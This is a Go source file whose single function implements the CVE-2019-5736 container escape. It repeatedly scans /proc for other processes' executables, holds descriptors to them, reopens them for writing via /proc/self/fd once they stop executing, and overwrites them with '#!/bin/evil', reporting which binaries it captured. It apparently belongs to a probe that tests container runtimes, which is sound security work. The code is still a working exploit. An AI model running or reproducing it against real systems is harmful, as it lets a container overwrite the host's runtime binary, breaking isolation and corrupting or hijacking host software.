package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"time"

	"golang.org/x/sys/unix"
)

// overwrite tries for some seconds to write to the executables of all other
// processes that it sees, those of a runtime that enters the container among
// them (CVE-2019-5736). It returns what it had in its hands and wrote to.
func overwrite(argument string) (any, error) {
	seconds, err := strconv.Atoi(argument)
	if err != nil {
		return nil, err
	}
	held := make(map[string]int)
	wrote := []string{}
	for end := time.Now().Add(time.Duration(seconds) * time.Second); time.Now().Before(end); {
		links, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, link := range links {
			name, err := os.Readlink(link)
			if _, ok := held[name]; ok || err != nil || name == "/probe" {
				continue
			}
			if fd, err := unix.Open(link, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
				held[name] = fd
			}
		}
		for name, fd := range held {
			w, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				continue // while it executes, ETXTBSY
			}
			if _, err := unix.Write(w, []byte("#!/bin/evil")); err == nil {
				wrote = append(wrote, name)
			}
			_ = unix.Close(w)
		}
	}
	names := make([]string, 0, len(held))
	for name := range held {
		names = append(names, name)
	}
	return map[string][]string{"held": names, "wrote": wrote}, nil
}
